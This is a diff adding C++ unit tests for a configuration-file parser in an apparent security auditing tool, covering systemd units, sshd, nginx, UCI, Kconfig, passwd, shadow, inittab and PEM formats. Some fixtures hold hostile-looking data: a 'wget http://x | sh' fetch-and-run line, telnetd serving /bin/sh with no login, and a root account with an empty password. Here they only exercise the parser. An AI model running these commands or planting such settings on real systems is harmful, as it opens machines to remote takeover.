@@ -1,0 +1,355 @@
+#include "formats/parsed.h"
+
+namespace cpsaudit {
+namespace {
+
+SyntaxOptions options(std::string trailing, std::vector<std::string> openers = {}) {
+  SyntaxOptions result;
+  result.trailing_comment_marks = std::move(trailing);
+  result.section_openers = std::move(openers);
+  return result;
+}
+
+TEST(Ini, SectionsHoldTheirSettings) {
+  const Parsed parsed(
+      Syntax::kIni,
+      "top = 1\r\n[global]\r\n; c\r\n  map to guest = Bad User\r\n[ data ]\r\npath=/srv\r\nflag\r\nempty =\r\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.value("top"), "1");
+  EXPECT_EQ(parsed.under("global>map to guest"), "Bad User");
+  EXPECT_EQ(parsed.key_under("global>map to guest"), "map to guest");
+  EXPECT_EQ(parsed.key_under("data"), "data");
+  EXPECT_EQ(parsed.value("data>path"), "/srv");
+  EXPECT_EQ(parsed.at("data>flag").style, ScalarStyle::kMissing);
+  EXPECT_EQ(parsed.at("data>empty").style, ScalarStyle::kMissing);
+  EXPECT_EQ(parsed.at("data>empty").value_span.begin, (Position{8, 8}));
+  EXPECT_EQ(parsed.comments()[0].text, " c");
+}
+
+TEST(Ini, AUnitKeepsRepeatedKeysAndContinuedLines) {
+  SyntaxOptions unit = options("");
+  unit.command_keys = {"ExecStart", "ExecStartPre"};
+  const Parsed parsed(Syntax::kIni,
+                      "[Service]\nEnvironment=\"A=1\" \"B=x y\"\nExecStartPre=-/bin/sh -c 'wget http://x | sh'\n"
+                      "ExecStart=!/usr/sbin/telnetd -l \\\n# why\n  /bin/sh -p ${PORT}\nExecStart=\n",
+                      unit);
+  EXPECT_EQ(parsed.value("Service>Environment"), "\"A=1\" \"B=x y\"");
+  EXPECT_EQ(parsed.value("Service>ExecStart"), "!/usr/sbin/telnetd -l /bin/sh -p ${PORT}");
+  ASSERT_EQ(parsed.at("Service").children.size(), 4U);
+  ASSERT_EQ(parsed.commands().size(), 4U);
+  EXPECT_EQ(parsed.words(0), "/bin/sh|-c|wget http://x | sh");
+  EXPECT_EQ(parsed.words_under(1), "wget|http://x");
+  EXPECT_EQ(parsed.pipes(), "1>2");
+  EXPECT_EQ(parsed.words(3), "/usr/sbin/telnetd|-l|/bin/sh|-p|${PORT}");
+  EXPECT_FALSE(parsed.commands()[3].words[4].literal);
+  EXPECT_EQ(parsed.slice(parsed.commands()[3].words[0].span), "/usr/sbin/telnetd");
+  EXPECT_EQ(parsed.commands()[3].context, "unit");
+  EXPECT_EQ(parsed.commands()[3].inside, "ExecStart");
+}
+
+TEST(Ini, QuotesAndTrailingCommentsAreNotPartOfTheValue) {
+  const Parsed parsed(Syntax::kIni,
+                      "[a]\nx = \"q # v\" # c\ny = plain # c\nurl: http://h/#f\nidmap config * : backend = tdb\n",
+                      options("#"));
+  EXPECT_EQ(parsed.under("a>x"), "q # v");
+  EXPECT_EQ(parsed.at("a>x").style, ScalarStyle::kQuoted);
+  EXPECT_EQ(parsed.under("a>y"), "plain");
+  EXPECT_EQ(parsed.value("a>url"), "http://h/#f");
+  EXPECT_EQ(parsed.value("a>idmap config * : backend"), "tdb");
+  EXPECT_EQ(parsed.comments().size(), 2U);
+}
+
+TEST(Ini, ASectionWithoutBracketIsAProblem) {
+  const Parsed parsed(Syntax::kIni, "[open\nx=1\n");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+  EXPECT_EQ(parsed.problems()[0].where, (Position{1, 1}));
+}
+
+TEST(KeyValue, EnvironmentFilesAndProperties) {
+  const Parsed parsed(Syntax::kKeyValue,
+                      "export A=1\nB=\"x \\\"y\\\" # z\" # c\nC='$lit'\nuser.name: "
+                      "joe\nurl=jdbc:x://h:1?a=b\nlong=a\\\n  b\nD=\n! note\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("A"), "1");
+  EXPECT_EQ(parsed.value("B"), "x \"y\" # z");
+  EXPECT_EQ(parsed.under("B"), "x \\\"y\\\" # z");
+  EXPECT_EQ(parsed.under("C"), "$lit");
+  EXPECT_EQ(parsed.value("user.name"), "joe");
+  EXPECT_EQ(parsed.value("url"), "jdbc:x://h:1?a=b");
+  EXPECT_EQ(parsed.value("long"), "ab");
+  EXPECT_EQ(parsed.at("D").style, ScalarStyle::kMissing);
+  EXPECT_EQ(parsed.comments().size(), 2U);
+}
+
+TEST(KeyValue, WithoutTrailingMarksAHashBelongsToTheValue) {
+  EXPECT_EQ(Parsed(Syntax::kKeyValue, "wpa_passphrase=abc # d\n").value("wpa_passphrase"), "abc # d");
+  EXPECT_EQ(Parsed(Syntax::kKeyValue, "a=abc # d\n", options("#")).under("a"), "abc");
+}
+
+TEST(KeyValue, AQuotedValueMayHaveSeveralLines) {
+  const Parsed parsed(Syntax::kKeyValue, "KEY=\"-----BEGIN\nabc\n-----END\"\nB=1\nC=\"open\nD=2\n");
+  EXPECT_EQ(parsed.under("KEY"), "-----BEGIN\nabc\n-----END");
+  EXPECT_EQ(parsed.value("B"), "1");
+  EXPECT_EQ(parsed.value("C"), "\"open");
+  EXPECT_EQ(parsed.value("D"), "2");
+}
+
+TEST(KeyValue, ABlockOfALineFormatIsReadFlat) {
+  const Parsed parsed(Syntax::kKeyValue, "network={\n  ssid=\"home\"\n  psk=\"12345678\"\n}\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("psk"), "12345678");
+}
+
+TEST(KeyValue, ALineOfProseIsAProblem) {
+  EXPECT_EQ(Parsed(Syntax::kKeyValue, "a=1\nthis is prose\n").problems().size(), 1U);
+}
+
+TEST(Directives, ArgumentsAreWordsAndTheirText) {
+  const Parsed parsed(
+      Syntax::kDirectives,
+      "Port 22\nAllowUsers  a \"b c\"\nBanner \"/etc/my banner\"\nX11Forwarding=yes\nUsePAM = no\nHostKey\n");
+  EXPECT_EQ(parsed.under("Port"), "22");
+  EXPECT_EQ(parsed.value("AllowUsers"), "a \"b c\"");
+  EXPECT_EQ(parsed.under("AllowUsers"), "a \"b c\"");
+  ASSERT_EQ(parsed.at("AllowUsers").words.size(), 2U);
+  EXPECT_EQ(parsed.at("AllowUsers").words[1].text, "b c");
+  EXPECT_EQ(parsed.slice(parsed.at("AllowUsers").words[1].span), "b c");
+  EXPECT_EQ(parsed.under("Banner"), "/etc/my banner");
+  EXPECT_EQ(parsed.at("Banner").style, ScalarStyle::kQuoted);
+  EXPECT_EQ(parsed.under("X11Forwarding"), "yes");
+  EXPECT_EQ(parsed.value("UsePAM"), "no");
+  EXPECT_EQ(parsed.at("HostKey").style, ScalarStyle::kMissing);
+}
+
+TEST(Directives, AnOpenerBeginsASectionThatLastsToTheNext) {
+  const Parsed parsed(
+      Syntax::kDirectives,
+      "PermitRootLogin no # c\nmatch User backup\n  PermitRootLogin yes\nMatch all\n#x\n  Banner none\n",
+      options("#", {"Match"}));
+  EXPECT_EQ(parsed.under("PermitRootLogin"), "no");
+  EXPECT_EQ(parsed.at("match").value, "User backup");
+  EXPECT_EQ(parsed.under("match>PermitRootLogin"), "yes");
+  EXPECT_EQ(parsed.under("match"), "match User backup\n  PermitRootLogin yes");
+  EXPECT_EQ(parsed.at("match").words[1].text, "backup");
+  EXPECT_EQ(parsed.value("Match>Banner"), "none");
+  EXPECT_EQ(parsed.comments().size(), 2U);
+}
+
+TEST(Directives, WithoutTrailingMarksAHashIsAnArgument) {
+  EXPECT_EQ(Parsed(Syntax::kDirectives, "password a # b\n").value("password"), "a # b");
+}
+
+TEST(Directives, AngleBlocksNest) {
+  SyntaxOptions apache;
+  apache.angle_blocks = true;
+  const Parsed parsed(Syntax::kDirectives,
+                      "<VirtualHost *:80>\n  ServerName x\n  <Directory \"/srv/a b\">\n    Options Indexes \\\n  "
+                      "FollowSymLinks\n  </Directory>\n</VirtualHost>\n<Open x>\nA 1\n",
+                      apache);
+  EXPECT_EQ(parsed.at("VirtualHost").value, "*:80");
+  EXPECT_EQ(parsed.at("VirtualHost>Directory").value, "/srv/a b");
+  EXPECT_EQ(parsed.at("VirtualHost>Directory>Options").words.size(), 2U);
+  EXPECT_EQ(parsed.value("VirtualHost>Directory>Options"), "Indexes   FollowSymLinks");
+  EXPECT_EQ(parsed.value("Open>A"), "1");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+  EXPECT_EQ(parsed.problems()[0].where.line, 8U);
+}
+
+TEST(Directives, BracesAroundASectionAreTaken) {
+  const Parsed parsed(Syntax::kDirectives, "service telnet\n{\n  disable = no\n  flags = REUSE A\n}\nx = 1\n",
+                      options("", {"service"}));
+  EXPECT_EQ(parsed.at("service").value, "telnet");
+  EXPECT_EQ(parsed.under("service>disable"), "no");
+  EXPECT_EQ(parsed.value("service>flags"), "REUSE A");
+  EXPECT_EQ(parsed.value("x"), "1");
+}
+
+TEST(Blocks, DirectivesAndBlocksNest) {
+  const Parsed parsed(Syntax::kBlocks,
+                      "user nginx;\r\nhttp {\r\n  log_format m '$remote \"x\";'\r\n    'more'; # c\r\n  server {\r\n   "
+                      " listen 443 ssl;\r\n"
+                      "    location ~ \"^/x{2}\" { return 301 https://$host${request_uri}/; }\r\n  }\r\n}\r\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("user"), "nginx");
+  EXPECT_EQ(parsed.value("http>server>listen"), "443 ssl");
+  EXPECT_EQ(parsed.at("http>server>location").value, "~ \"^/x{2}\"");
+  EXPECT_EQ(parsed.at("http>server>location").words[1].text, "^/x{2}");
+  EXPECT_EQ(parsed.at("http>server>location>return").words[1].text, "https://$host${request_uri}/");
+  EXPECT_FALSE(parsed.at("http>server>location>return").words[1].literal);
+  EXPECT_EQ(parsed.at("http>log_format").words[1].text, "$remote \"x\";");
+  EXPECT_EQ(parsed.key_under("http>server"), "server");
+  EXPECT_EQ(parsed.under("http>server").substr(0, 8), "server {");
+  EXPECT_EQ(parsed.comments().size(), 1U);
+}
+
+TEST(Blocks, AScriptInABlockIsOneValue) {
+  const Parsed parsed(Syntax::kBlocks, "location / { content_by_lua_block {\n local t = {a = \"}\"} -- }\n} }\nx y;\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.at("location>content_by_lua_block").style, ScalarStyle::kBlock);
+  EXPECT_EQ(parsed.value("x"), "y");
+}
+
+TEST(Blocks, OtherFormatsWithBracesAreReadToo) {
+  const Parsed parsed(Syntax::kBlocks,
+                      "// c\n/* d\n */\nAcquire::https::Verify-Peer \"false\";\nAcquire { Check \"no\"; };\noptions { "
+                      "allow-query { any; }; port = 5; };\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("Acquire::https::Verify-Peer"), "false");
+  EXPECT_EQ(parsed.under("Acquire>Check"), "no");
+  EXPECT_NE(parsed.find("options>allow-query>any"), nullptr);
+  EXPECT_EQ(parsed.value("options>port"), "5");
+  EXPECT_EQ(parsed.comments().size(), 2U);
+}
+
+TEST(Blocks, UnbalancedBracesSayWhereAndTheRestIsKept) {
+  const Parsed open(Syntax::kBlocks, "a {\n  b c;\n  d {\n    e f\n  }\n");
+  EXPECT_EQ(open.value("a>b"), "c");
+  EXPECT_EQ(open.value("a>d>e"), "f");
+  ASSERT_EQ(open.problems().size(), 2U);
+  EXPECT_EQ(open.problems()[1].where, (Position{1, 3}));
+  const Parsed extra(Syntax::kBlocks, "a b;\n}\nc d;\n");
+  EXPECT_EQ(extra.value("c"), "d");
+  EXPECT_EQ(extra.problems().size(), 1U);
+}
+
+TEST(Uci, SectionsOptionsAndLists) {
+  const Parsed parsed(Syntax::kUci,
+                      "package firewall\n# c\nconfig zone 'wan'\n\toption  name   wan  # why\n\toption 'input' "
+                      "\"ACCEPT\"\n\tlist network 'wan'\n"
+                      "\tlist network wan6\nconfig 'rule'\n\toption x 'it'\"'s\"\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.value("package"), "firewall");
+  EXPECT_EQ(parsed.at("zone").value, "wan");
+  EXPECT_EQ(parsed.slice(parsed.at("zone").words[0].span), "wan");
+  EXPECT_EQ(parsed.under("zone>name"), "wan");
+  EXPECT_EQ(parsed.key_under("zone>input"), "input");
+  EXPECT_EQ(parsed.under("zone>input"), "ACCEPT");
+  ASSERT_EQ(parsed.at("zone").children.size(), 4U);
+  EXPECT_EQ(parsed.at("zone").children[3].value, "wan6");
+  EXPECT_EQ(parsed.value("rule>x"), "it's");
+  EXPECT_EQ(parsed.under("rule>x"), "it'\"'s");
+  EXPECT_EQ(parsed.comments().size(), 2U);
+}
+
+TEST(Uci, AQuoteMayReachOverLinesButNotOverAStatement) {
+  const Parsed parsed(Syntax::kUci, "config a\n\toption t 'one\ntwo'\n\toption u 'open\n\toption v 'x'\n");
+  EXPECT_EQ(parsed.value("a>t"), "one\ntwo");
+  EXPECT_EQ(parsed.value("a>u"), "open");
+  EXPECT_EQ(parsed.value("a>v"), "x");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+  EXPECT_EQ(parsed.problems()[0].where.line, 4U);
+}
+
+TEST(Uci, BrokenLinesAreProblemsAndTheRestCounts) {
+  const Parsed parsed(Syntax::kUci, "config\nconfig a\n\toption\n\tnonsense x\n\toption k\n\toption z a b\n");
+  EXPECT_EQ(parsed.problems().size(), 4U);
+  EXPECT_EQ(parsed.at("a>k").style, ScalarStyle::kMissing);
+  EXPECT_EQ(parsed.value("a>z"), "a");
+}
+
+TEST(Kconfig, EveryWayToSayYesAndNo) {
+  const Parsed parsed(Syntax::kKconfig,
+                      "#\n# Security\n#\nCONFIG_A=y\n# CONFIG_B is not set\nBR2_C=\"a \\\"b\\\" # c\" # d\nCONFIG_D=n  "
+                      "# why\nCONFIG_E=\nSB_CONFIG_F=0x10\r\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("CONFIG_A"), "y");
+  EXPECT_EQ(parsed.value("CONFIG_B"), "n");
+  EXPECT_EQ(parsed.at("CONFIG_B").style, ScalarStyle::kUnset);
+  EXPECT_EQ(parsed.key_under("CONFIG_B"), "CONFIG_B");
+  EXPECT_EQ(parsed.under("CONFIG_B"), "is not set");
+  EXPECT_EQ(parsed.value("BR2_C"), "a \"b\" # c");
+  EXPECT_EQ(parsed.under("BR2_C"), "a \\\"b\\\" # c");
+  EXPECT_EQ(parsed.under("CONFIG_D"), "n");
+  EXPECT_EQ(parsed.at("CONFIG_E").style, ScalarStyle::kMissing);
+  EXPECT_EQ(parsed.under("SB_CONFIG_F"), "0x10");
+  EXPECT_EQ(parsed.comments().size(), 5U);
+}
+
+TEST(Kconfig, OtherLinesAreProblems) {
+  EXPECT_EQ(Parsed(Syntax::kKconfig, "CONFIG_A=y\nconfig FOO\n").problems().size(), 1U);
+  EXPECT_EQ(Parsed(Syntax::kKconfig, "# this is not set in stone\n").root().children.size(), 0U);
+}
+
+TEST(Passwd, FieldsHaveTheirNames) {
+  const Parsed parsed(Syntax::kPasswd, "# c\nroot::0:0:root:/root:/bin/ash\ndaemon:*:1:1:daemon:/var:/bin/false  \n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.key_under("root"), "root");
+  EXPECT_EQ(parsed.value("root>password"), "");
+  EXPECT_EQ(parsed.at("root>password").value_span, (Span{{2, 6}, {2, 6}}));
+  EXPECT_EQ(parsed.key_under("root>password"), "root");
+  EXPECT_EQ(parsed.under("root>shell"), "/bin/ash");
+  EXPECT_EQ(parsed.under("daemon>shell"), "/bin/false");
+}
+
+TEST(Passwd, AGroupFileAndWrongCountsAreTolerated) {
+  const Parsed parsed(Syntax::kPasswd, "wheel:x:10:a,b\nbroken:x:1\n+::::::\nprose\n");
+  EXPECT_EQ(parsed.value("wheel>members"), "a,b");
+  EXPECT_EQ(parsed.value("broken>password"), "x");
+  EXPECT_EQ(parsed.problems().size(), 2U);
+}
+
+TEST(Shadow, FieldsHaveTheirNames) {
+  const Parsed parsed(Syntax::kShadow, "root:$1$ab$cd:19000:0:99999:7:::\r\nuser:!:::::::\r\n");
+  EXPECT_TRUE(parsed.problems().empty());
+  EXPECT_EQ(parsed.under("root>password"), "$1$ab$cd");
+  EXPECT_EQ(parsed.value("root>max"), "99999");
+  EXPECT_EQ(parsed.value("user>password"), "!");
+}
+
+TEST(Inittab, AProcessIsACommand) {
+  const Parsed parsed(Syntax::kInittab,
+                      "# c\n::sysinit:/etc/init.d/rcS S boot\nttyS0::askfirst:-/bin/ash "
+                      "--login\nt1:2345:respawn:/usr/sbin/telnetd -F -l /bin/sh > /dev/null 2>&1\nbroken\n");
+  EXPECT_EQ(parsed.value("ttyS0>action"), "askfirst");
+  EXPECT_EQ(parsed.value("ttyS0>process"), "-/bin/ash --login");
+  EXPECT_EQ(parsed.value("t1>runlevels"), "2345");
+  ASSERT_EQ(parsed.commands().size(), 3U);
+  EXPECT_EQ(parsed.words_under(1), "/bin/ash|--login");
+  EXPECT_EQ(parsed.commands()[1].context, "inittab");
+  EXPECT_EQ(parsed.commands()[1].inside, "ttyS0");
+  EXPECT_EQ(parsed.words(2), "/usr/sbin/telnetd|-F|-l|/bin/sh");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+  EXPECT_EQ(parsed.problems()[0].where.line, 5U);
+}
+
+TEST(Pem, BlocksAreNamedAndTheirBytesAreNotKept) {
+  const Parsed parsed(
+      Syntax::kPem,
+      "Bag\n-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\r\n"
+      "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES\n\nMIIB\n-----END RSA PRIVATE KEY-----\n"
+      "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIB\n-----END ENCRYPTED PRIVATE KEY-----\n-----BEGIN "
+      "CERTIFICATE-----\nMIIB\n");
+  ASSERT_EQ(parsed.root().children.size(), 4U);
+  const Node& first = parsed.root().children[0];
+  EXPECT_EQ(first.key, "RSA PRIVATE KEY");
+  EXPECT_EQ(first.value, "");
+  EXPECT_EQ(first.tag, "");
+  EXPECT_EQ(parsed.slice(first.value_span), "-----BEGIN RSA PRIVATE KEY-----");
+  EXPECT_EQ(parsed.slice(first.key_span), "RSA PRIVATE KEY");
+  EXPECT_EQ(parsed.root().children[1].tag, "encrypted");
+  EXPECT_EQ(parsed.root().children[2].tag, "encrypted");
+  EXPECT_EQ(parsed.root().children[3].key, "CERTIFICATE");
+  ASSERT_EQ(parsed.problems().size(), 1U);
+  EXPECT_EQ(parsed.problems()[0].where.line, 14U);
+}
+
+TEST(Pem, AnOpensshKeySaysInItsBodyWhetherItIsEncrypted) {
+  // "openssh-key-v1\0" and then the cipher: "none" and "aes256-ctr".
+  const Parsed open(Syntax::kPem,
+                    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==\n-----END "
+                    "OPENSSH PRIVATE KEY-----\n");
+  EXPECT_EQ(open.root().children[0].tag, "");
+  const Parsed locked(Syntax::kPem,
+                      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAA=\n-----END "
+                      "OPENSSH PRIVATE KEY-----\n");
+  EXPECT_EQ(locked.root().children[0].tag, "encrypted");
+}
+
+TEST(Pem, APuttyKeyIsAKeyToo) {
+  const Parsed parsed(Syntax::kPem, "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPrivate-Lines: 1\n");
+  EXPECT_EQ(parsed.root().children[0].key, "PUTTY PRIVATE KEY");
+  EXPECT_EQ(parsed.root().children[0].tag, "");
+}
+
+}  // namespace
+}  // namespace cpsaudit
